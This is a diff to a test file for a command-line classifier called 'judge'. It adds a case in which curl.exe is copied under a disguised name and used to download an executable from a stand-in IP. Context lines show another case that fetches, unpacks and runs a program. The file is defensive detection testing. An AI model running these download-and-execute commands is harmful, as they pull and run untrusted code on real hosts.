@@ -33,6 +33,11 @@ describe("judge", () => {
       "cmd /c curl -o a.zip http://203.0.113.7/a.zip & tar -xf a.zip & start a.exe",
       "windows/cmd/fetched-program",
     ],
+    [
+      "the gravest command of a list, however deep the others lie",
+      "cmd /c copy C:\\Windows\\System32\\curl.exe C:\\ProgramData\\u.exe & C:\\ProgramData\\u.exe -o C:\\ProgramData\\a.exe http://203.0.113.7/a.exe",
+      "windows/curl/program-download",
+    ],
   ])("tells of %s", (_, line, behaviour) => {
     expect(judged(line)).toBe(behaviour);
   });
